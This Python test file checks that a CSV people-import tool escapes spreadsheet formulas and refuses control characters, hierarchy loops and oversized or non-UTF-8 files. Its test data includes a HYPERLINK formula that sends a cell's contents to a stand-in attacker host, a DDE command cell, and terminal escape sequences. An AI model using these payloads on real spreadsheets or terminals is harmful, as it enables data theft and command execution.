"""Issue 9 §6, input that must not get in: hostile CSV cells, invisible characters, management
loops closed across imports, huge fields and files that are not UTF-8 CSV.

Files are written as bytes and fed to the real `mentordesk` command in a child process; what
got stored is read back from the SQLite file itself.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mentordesk import validation
from mentordesk.errors import ValidationError
from mentordesk.models import Person
from mentordesk.people_csv import COLUMNS, escape_cell, read_people, unescape_cell
from mentordesk.services import people
from mentordesk.storage.database import Database

from .conftest import run_cli

HEADER = "employee_id,name,email,manager_employee_id,title,notes\r\n"
TRIGGERS = "=+-@\t\r"


# -- helpers -----------------------------------------------------------------------------------

def csv_bytes(rows: list[dict[str, str]], columns: tuple[str, ...] = COLUMNS, *, escape: bool = True) -> bytes:
    """A CSV as Excel would save it (UTF-8 with BOM, CRLF), cells escaped as MentorDesk's export does."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([escape_cell(row.get(c, "")) if escape else row.get(c, "") for c in columns])
    return b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8")


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def stored(db_file: Path, column: str = "name") -> dict[str, str]:
    with sqlite3.connect(db_file) as conn:
        return dict(conn.execute(f"SELECT employee_id, {column} FROM people WHERE deleted_at IS NULL"))


def people_count(db_file: Path) -> int:
    if not db_file.exists():
        return 0
    with sqlite3.connect(db_file) as conn:
        return conn.execute("SELECT count(*) FROM people WHERE deleted_at IS NULL").fetchone()[0]


def cli_ok(home: Path, *args: str) -> str:
    result = run_cli(home, *args)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result.stdout


def cli_refused(home: Path, *args: str) -> str:
    result = run_cli(home, *args)
    assert result.returncode != 0, result.stdout
    assert "Traceback" not in result.stderr, result.stderr
    return result.stderr


def person(i: int, **values: str) -> dict[str, str]:
    return {"employee_id": f"E{i}", "name": f"Person {i}", "email": f"p{i}@example.com", **values}


# -- 1. formula injection: escaped on export, exactly restored on import -------------------------

_single_line = st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"),
                             blacklist_characters="".join(map(chr, [*range(0x202A, 0x202F),
                                                                    *range(0x2066, 0x206A)])) + "\ufeff")
_prefix = st.text(st.sampled_from("=+-@'"), min_size=1, max_size=3)
_hostile = st.builds(lambda p, rest: p + rest, _prefix, st.text(_single_line, max_size=12)).map(
    lambda s: validation_normal(s)).filter(bool)  # validation_normal is defined below
_notes = st.builds(lambda p, rest: p + rest, st.text(st.sampled_from("=+-@'\t\r\n"), max_size=3),
                   st.text(_single_line | st.sampled_from("\t\r\n"), max_size=12))


def validation_normal(value: str) -> str:
    """What the import stores for a one-line value: trimmed, NFC."""
    import unicodedata

    return unicodedata.normalize("NFC", value.strip())


@st.composite
def hostile_people(draw) -> list[dict[str, str]]:
    n = draw(st.integers(1, 4))
    rows = []
    for i in range(n):
        rows.append(person(i, name=draw(_hostile), title=draw(_hostile | st.just("")),
                           department=draw(_hostile | st.just("")), notes=draw(_notes),
                           competencies=f"{draw(_hostile.filter(lambda s: ';' not in s and ':' not in s))[:60]}:3>4"))
    return rows


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(rows=hostile_people())
def test_hostile_cells_round_trip_byte_identical_through_the_cli(tmp_path_factory, rows):
    home = tmp_path_factory.mktemp("home")
    source = write(home / "hr.csv", csv_bytes(rows))
    first, second = home / "first.db", home / "second.db"
    out1, out2 = home / "out1.csv", home / "out2.csv"
    cli_ok(home, "--db", str(first), "import-people", str(source))
    cli_ok(home, "--db", str(first), "export-people", str(out1))
    cli_ok(home, "--db", str(second), "import-people", str(out1))
    cli_ok(home, "--db", str(second), "export-people", str(out2))
    assert out1.read_bytes() == out2.read_bytes()
    # The stored values are the original text, without any protective quote.
    for column in ("name", "title", "department", "notes"):
        assert stored(second, column) == {r["employee_id"]: r[column] for r in rows}
    # No cell of the export starts with a character a spreadsheet would run.
    for record in csv.reader(io.StringIO(out1.read_bytes().decode("utf-8-sig"), newline="")):
        for cell in record:
            assert cell[:1] not in TRIGGERS or cell == "", cell


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK"),
    ("+cmd|' /C calc'!A0", "'+cmd"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),
    ("+44 20 7946 0000", "'+44 20"),
    ("@SUM(1+1)", "'@SUM"),
    ("'=already quoted", "''=already"),
    ("''", "'''"),
    ("'t Hart", "'t Hart"),
    ("'", "'"),
])
def test_each_formula_form_is_escaped_and_restored(home, value, cell):
    source = write(home / "hr.csv", csv_bytes([person(1, title=value, name=value if value != "'" else "Q")]))
    db_file, out = home / "company.db", home / "out.csv"
    cli_ok(home, "--db", str(db_file), "import-people", str(source))
    assert stored(db_file, "title") == {"E1": value}
    cli_ok(home, "--db", str(db_file), "export-people", str(out))
    [_, row] = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert row[COLUMNS.index("title")].startswith(cell)
    assert unescape_cell(row[COLUMNS.index("title")]) == value


def test_notes_starting_with_tab_or_carriage_return_keep_them(home):
    notes = {1: "\t=1+1", 2: "\r=cmd", 3: "\r\n-x", 4: "'\tquoted", 5: "plain\nnote"}
    source = write(home / "hr.csv", csv_bytes([person(i, notes=n) for i, n in notes.items()]))
    db_file, out1, out2 = home / "c.db", home / "o1.csv", home / "o2.csv"
    cli_ok(home, "--db", str(db_file), "import-people", str(source))
    assert stored(db_file, "notes") == {f"E{i}": n for i, n in notes.items()}
    cli_ok(home, "--db", str(db_file), "export-people", str(out1))
    second = home / "d.db"
    cli_ok(home, "--db", str(second), "import-people", str(out1))
    cli_ok(home, "--db", str(second), "export-people", str(out2))
    assert out1.read_bytes() == out2.read_bytes()
    exported = out1.read_bytes()
    # the notes cell is followed by the archived column (",no")
    assert b",'\t=1+1,no\r\n" in exported and b',"\'\r=cmd",no\r\n' in exported
    assert b",'\'\tquoted,no\r\n" in exported


def test_a_cell_protected_by_another_program_is_read_as_its_text(home):
    """A leading apostrophe before a formula character (the OWASP escape) comes off; one before
    anything else is part of the value."""
    raw = (HEADER + "E1,'=SUM(A1),a@example.com,,'-Director,'@home\r\n"
           "E2,'t Hart,b@example.com,,'quoted,\r\n").encode()
    db_file = home / "c.db"
    cli_ok(home, "--db", str(db_file), "import-people", str(write(home / "x.csv", raw)))
    assert stored(db_file, "name") == {"E1": "=SUM(A1)", "E2": "'t Hart"}
    assert stored(db_file, "title") == {"E1": "-Director", "E2": "'quoted"}
    assert stored(db_file, "notes") == {"E1": "@home", "E2": ""}


@settings(max_examples=2000, deadline=None)
@given(st.text())
def test_the_escape_is_a_bijection(value):
    assert unescape_cell(escape_cell(value)) == value
    assert escape_cell(unescape_cell(escape_cell(value))) == escape_cell(value)
    assert escape_cell(value)[:1] not in TRIGGERS or value == ""


# -- 2. control characters: refused with line numbers; never printed raw -------------------------

REFUSED = {
    "NUL": "\x00", "ESC": "\x1b[31m", "bell": "\x07", "backspace": "\x08", "DEL": "\x7f",
    "C1 CSI": "\x9b2J", "NEL": "x\x85y", "RLO": "\u202e", "LRI": "\u2066", "PDI": "\u2069",
    "tab inside": "a\tb", "line break inside": "a\nb", "CR inside": "a\rb", "LS": "a\u2028b",
}


@pytest.mark.parametrize("label", sorted(REFUSED))
def test_control_characters_are_refused_with_their_line(home, label):
    bad = REFUSED[label]
    rows = [person(1), person(2, name=f"Ann{bad}Smith"), person(3), person(4, title=f"Boss{bad}"),
            person(5, department=f"{bad}x" if label not in ("tab inside", "line break inside", "CR inside", "LS")
                   else f"x{bad}y")]
    source = write(home / "hr.csv", csv_bytes(rows))
    db_file = home / "c.db"
    err = cli_refused(home, "--db", str(db_file), "import-people", str(source))
    assert people_count(db_file) == 0
    # Quoted multi-line cells shift physical lines: compute where each record starts.
    starts = [2]
    for row in rows:
        starts.append(starts[-1] + 1 + sum(row.get(c, "").count("\n") + row.get(c, "").count("\r")
                                           - row.get(c, "").count("\r\n") for c in COLUMNS))
    for index in (1, 3, 4):
        assert f"Line {starts[index]}: " in err, err
    assert "control character" in err
    for line in (starts[0], starts[2]):
        assert f"Line {line}: " not in err
    assert "\x1b" not in err and "\x9b" not in err and "\u202e" not in err


def test_tabs_and_line_breaks_are_allowed_in_notes_only(home):
    notes = "first line\r\nsecond\tline\u2028third"
    source = write(home / "hr.csv", csv_bytes([person(1, notes=notes)]))
    db_file = home / "c.db"
    cli_ok(home, "--db", str(db_file), "import-people", str(source))
    assert stored(db_file, "notes") == {"E1": notes}
    source = write(home / "hr2.csv", csv_bytes([person(2, notes="bell\x07")]))
    err = cli_refused(home, "--db", str(db_file), "import-people", str(source))
    assert "Line 2: notes contains an invisible control character (bell, U+0007)" in err


def test_control_characters_in_the_other_columns_are_refused(home):
    rows = [person(1, employee_id="E\x1b1"), person(2, email="a\x00@example.com"),
            person(3, manager_employee_id="E\u202e1"), person(4, competencies="Excel\x1b:3"),
            person(5, languages="en;\x1bnl"), person(6, role="mentor\x07")]
    rows[0]["employee_id"] = "E\x1b1"
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people",
                      str(write(home / "hr.csv", csv_bytes(rows))))
    for line in range(2, 8):
        assert f"Line {line}: " in err
    assert "\x1b" not in err and "\x00" not in err and "\u202e" not in err


def test_the_person_form_refuses_control_characters(tmp_path):
    db = Database.open(tmp_path / "c.db")
    try:
        for field_name, value in [("name", "Ann\x1b]0;pwned\x07"), ("title", "x\u202ey"),
                                  ("department", "a\nb"), ("employee_id", "E\x001"), ("notes", "ok\x9b")]:
            values = {"employee_id": "E1", "name": "Ann", "email": "ann@example.com", field_name: value}
            with pytest.raises(ValidationError) as info:
                people.add_person(db, Person(**values))
            assert any("control character" in p for p in info.value.problems), info.value.problems
        assert people.count(db) == 0
        people.add_person(db, Person("E1", "Ann", "ann@example.com", notes="two\nlines\there"))
        assert people.count(db) == 1
    finally:
        db.close()


def _plant_names(db_file: Path, names: dict[str, str]) -> None:
    """Write names straight into the file, as an older MentorDesk or a merged branch left them."""
    with sqlite3.connect(db_file) as conn:
        for employee_id, name in names.items():
            conn.execute("UPDATE people SET name = ?, department = ? WHERE employee_id = ?",
                         (name, name[:5], employee_id))


def test_terminal_output_never_carries_control_sequences(home, demo_file):
    hostile = {
        "\x1b[2J\x1b[H": "clear screen", "\x1b]0;owned\x07": "window title", "\x9b31m": "C1 CSI",
        "\x1b]52;c;aGk=\x07": "clipboard", "\r": "carriage return", "\u202e": "right-to-left override",
        "\x08\x08": "backspace",
    }
    with sqlite3.connect(demo_file) as conn:
        ids = [r[0] for r in conn.execute("SELECT employee_id FROM people ORDER BY employee_id LIMIT 7")]
    names = {eid: f"Evil{seq}Name" for eid, seq in zip(ids, hostile, strict=False)}
    _plant_names(demo_file, names)
    out = cli_ok(home, "--db", str(demo_file), "people")
    for seq in hostile:
        for ch in set(seq) - set("[]0123456789;ownedHJmcaGik=Jc"):
            assert ch not in out, (seq, ch)
    for eid in ids:
        assert any(line.startswith(eid) and "Evil\\u" in line for line in out.splitlines()), eid
    # --json keeps the exact values: the escapes are JSON's own.
    listed = {p["employee_id"]: p["name"] for p in json.loads(cli_ok(home, "--db", str(demo_file), "people", "--json"))}
    assert {eid: listed[eid] for eid in ids} == names
    json_out = run_cli(home, "--db", str(demo_file), "people", "--json").stdout
    assert not any(ch in json_out for ch in "\x1b\x9b\x07\x08\u202e")


def test_problem_messages_never_carry_control_sequences(home):
    """Messages quote the bad value (a wrong e-mail, role or date): made visible, not raw."""
    rows = [person(1, email="\x1b[31mx@", role="\x1b]0;t\x07"), person(2, hire_date="\x9b1;1H")]
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people",
                      str(write(home / "\x1b[1mhr.csv", csv_bytes(rows))))
    assert not any(ch in err for ch in "\x1b\x9b\x07")
    assert "\\u001b" in err


# -- 3. management loops: checked for the whole company after the import -------------------------

def _import(home: Path, db_file: Path, name: str, rows: list[dict[str, str]]):
    source = write(home / name, csv_bytes(rows, ("employee_id", "name", "email", "manager_employee_id")))
    return run_cli(home, "--db", str(db_file), "import-people", str(source))


def _managers(db_file: Path) -> dict[str, str | None]:
    return stored(db_file, "manager_employee_id")


def test_loop_of_two_closed_by_a_second_import_is_refused(home):
    db_file = home / "c.db"
    assert _import(home, db_file, "1.csv", [person(1, manager_employee_id="E2"), person(2)]).returncode == 0
    before = _managers(db_file)
    result = _import(home, db_file, "2.csv", [person(2, manager_employee_id="E1")])
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "Line 2: manager_employee_id makes a loop" in result.stderr
    assert "E2 → E1 → E2" in result.stderr and "E1 is already in MentorDesk" in result.stderr
    assert _managers(db_file) == before
    # The company's own export still re-imports into a fresh file.
    out = home / "out.csv"
    cli_ok(home, "--db", str(db_file), "export-people", str(out))
    cli_ok(home, "--db", str(home / "fresh.db"), "import-people", str(out))


def test_loop_of_one_is_refused_in_a_later_import(home):
    db_file = home / "c.db"
    assert _import(home, db_file, "1.csv", [person(1)]).returncode == 0
    result = _import(home, db_file, "2.csv", [person(1, manager_employee_id="E1")])
    assert result.returncode != 0 and "own employee_id" in result.stderr
    assert _managers(db_file) == {"E1": None}
    assert validation.management_loops({"E1": "E1"}) == [["E1"]]


def test_loop_of_three_across_three_imports_is_refused(home):
    db_file = home / "c.db"
    assert _import(home, db_file, "1.csv", [person(1, manager_employee_id="E2"), person(2)]).returncode == 0
    assert _import(home, db_file, "2.csv", [person(2, manager_employee_id="E3"), person(3)]).returncode == 0
    before = _managers(db_file)
    result = _import(home, db_file, "3.csv", [person(3, manager_employee_id="E1")])
    assert result.returncode != 0 and "E3 → E1 → E2 → E3" in result.stderr
    assert _managers(db_file) == before


def test_long_chain_closed_across_imports_is_refused(home):
    db_file = home / "c.db"
    chain = [person(i, manager_employee_id=f"E{i + 1}") for i in range(1, 60)] + [person(60)]
    assert _import(home, db_file, "1.csv", chain[:29] + [person(30)]).returncode == 0
    assert _import(home, db_file, "2.csv", chain[29:]).returncode == 0
    before = _managers(db_file)
    result = _import(home, db_file, "3.csv", [person(60, manager_employee_id="E1")])
    assert result.returncode != 0 and "E60 → E1 → E2" in result.stderr
    assert _managers(db_file) == before


def test_an_import_that_moves_a_manager_and_breaks_the_loop_is_accepted(home):
    """The check is on the company *after* the import: B->A together with A->nobody is fine."""
    db_file = home / "c.db"
    assert _import(home, db_file, "1.csv", [person(1, manager_employee_id="E2"), person(2)]).returncode == 0
    result = _import(home, db_file, "2.csv", [person(1), person(2, manager_employee_id="E1")])
    assert result.returncode == 0, result.stderr
    assert _managers(db_file) == {"E1": None, "E2": "E1"}


@pytest.mark.parametrize("length", [2, 3, 12])
def test_the_person_form_refuses_loops_of_any_length(tmp_path, length):
    db = Database.open(tmp_path / "c.db")
    try:
        ids = [f"E{i}" for i in range(length)]
        for i, eid in reversed(list(enumerate(ids))):
            people.add_person(db, Person(eid, f"P{i}", f"p{i}@example.com",
                                         manager_employee_id=ids[i + 1] if i + 1 < length else None))
        last = next(p for p in people.list_people(db) if p.employee_id == ids[-1])
        with pytest.raises(ValidationError) as info:
            people.update_person(db, last.id, Person(ids[-1], last.name, last.email, manager_employee_id=ids[0]))
        assert "loop" in str(info.value)
        with pytest.raises(ValidationError):
            people.update_person(db, last.id, Person(ids[-1], last.name, last.email, manager_employee_id=ids[-1]))
        assert next(p for p in people.list_people(db) if p.employee_id == ids[-1]).manager_employee_id is None
    finally:
        db.close()


# -- 4. huge fields and files that are not UTF-8 CSV ---------------------------------------------

@pytest.mark.parametrize("column, limit", [("name", 200), ("email", 254), ("title", 200), ("notes", 20_000),
                                           ("competencies", 20_000), ("employee_id", 64)])
def test_a_one_megabyte_field_names_its_column_and_the_limit(home, column, limit):
    rows = [person(1), person(2, **{column: "x" * 1_048_576})]
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people",
                      str(write(home / "big.csv", csv_bytes(rows))))
    assert f"Line 3: {column} is 1,048,576 characters long; the limit is {limit:,} characters" in err
    assert "quotation" not in err
    assert len(err) < 2000  # the value itself is never echoed


def test_a_field_just_at_the_limit_is_accepted(home):
    rows = [person(1, name="n" * validation.MAX_NAME, notes="y" * validation.MAX_NOTES)]
    db_file = home / "c.db"
    cli_ok(home, "--db", str(db_file), "import-people", str(write(home / "ok.csv", csv_bytes(rows))))
    assert stored(db_file) == {"E1": "n" * validation.MAX_NAME}


def test_a_huge_quoted_multiline_field_counts_lines_right(home):
    rows = [person(1, notes="line\n" * 30_000), person(2, name="y" * 5000)]
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people",
                      str(write(home / "big.csv", csv_bytes(rows))))
    assert "Line 2: notes is 150,000 characters long" in err
    assert f"Line {2 + 30_000 + 1}: name is 5,000 characters long; the limit is 200" in err


SAMPLE_TEXT = HEADER + "E1,李小龙,li@example.com,,研发,\r\nE2,Ann Smith,ann@example.com,E1,,\r\n"


@pytest.mark.parametrize("encoding, order", [("utf-16-le", "little-endian"), ("utf-16-be", "big-endian")])
def test_utf16_without_bom_is_named(home, encoding, order):
    source = write(home / "hr.csv", SAMPLE_TEXT.encode(encoding))
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people", str(source))
    assert f"UTF-16 ({order}) without a byte order mark" in err and "save it as UTF-8" in err
    assert err.count("Line") == 0  # one sentence about the file, not a problem per line


@pytest.mark.parametrize("bom_encoding, name", [("utf-16", "UTF-16"), ("utf-32", "UTF-32")])
def test_utf16_and_utf32_with_bom_are_named(home, bom_encoding, name):
    source = write(home / "hr.csv", SAMPLE_TEXT.encode(bom_encoding))
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people", str(source))
    assert f"saved as {name}" in err and "CSV UTF-8" in err


def _xlsx(path: Path) -> bytes:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    return path.read_bytes()


@pytest.mark.parametrize("kind, expected", [
    ("png", "PNG picture"), ("xlsx", "Excel workbook (.xlsx)"), ("xls", "older Excel workbook"),
    ("sqlite", "a database"), ("pdf", "PDF document"), ("random", "binary data"), ("cp1252", "older Windows"),
])
def test_other_files_get_a_sentence(home, demo_file, kind, expected):
    import random

    data = {
        "png": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        "xlsx": lambda: _xlsx(home / "book.xlsx"),
        "xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "sqlite": lambda: demo_file.read_bytes(),
        "pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)),
        "random": lambda: random.Random(9).randbytes(5000),
        "cp1252": lambda: SAMPLE_TEXT.replace("李小龙", "José").replace("研发", "Ventas").encode("cp1252"),
    }[kind]()
    source = write(home / "people.csv", data)
    db_file = home / "c.db"
    err = cli_refused(home, "--db", str(db_file), "import-people", str(source))
    assert expected in err and "CSV UTF-8" in err
    assert people_count(db_file) == 0


def test_the_company_file_renamed_to_csv_is_not_touched(home, demo_file):
    copy = home / "acme.csv"
    shutil.copy(demo_file, copy)
    before = copy.read_bytes()
    err = cli_refused(home, "--db", str(home / "c.db"), "import-people", str(copy))
    assert "database" in err
    assert copy.read_bytes() == before


def test_read_people_agrees_with_the_cli_on_what_it_refuses():
    """The parser itself (used by the window's import) gives the same sentences."""
    result = read_people(SAMPLE_TEXT.encode("utf-16-le"))
    [problem] = result.problems
    assert problem.line == 0 and "UTF-16 (little-endian) without a byte order mark" in problem.message


def test_a_loop_closed_by_a_colleague_during_the_import_is_refused(tmp_path):
    """The file is checked against the company when reading starts; a colleague's save while it
    is read must not slip a loop past: the same rule runs again inside the import's transaction."""
    path = tmp_path / "c.db"
    db = Database.open(path)
    colleague = Database.open(path)
    try:
        people.add_person(db, Person("E1", "Ann", "ann@example.com"))
        people.add_person(db, Person("E2", "Bob", "bob@example.com"))
        source = write(tmp_path / "hr.csv", csv_bytes([person(2, name="Bob", email="bob@example.com",
                                                               manager_employee_id="E1")]))
        ann = next(p for p in people.list_people(colleague) if p.employee_id == "E1")

        def colleague_saves(done: int, total: int) -> None:
            if ann.manager_employee_id is None:
                ann.manager_employee_id = "E2"
                people.update_person(colleague, ann.id, ann)

        with pytest.raises(ValidationError) as info:
            people.import_people(db, source, progress=colleague_saves)
        assert "E2 → E1 → E2" in str(info.value) and "Nothing was imported" in str(info.value)
        assert {p.employee_id: p.manager_employee_id for p in people.list_people(db)} == {"E1": "E2", "E2": None}
    finally:
        colleague.close()
        db.close()
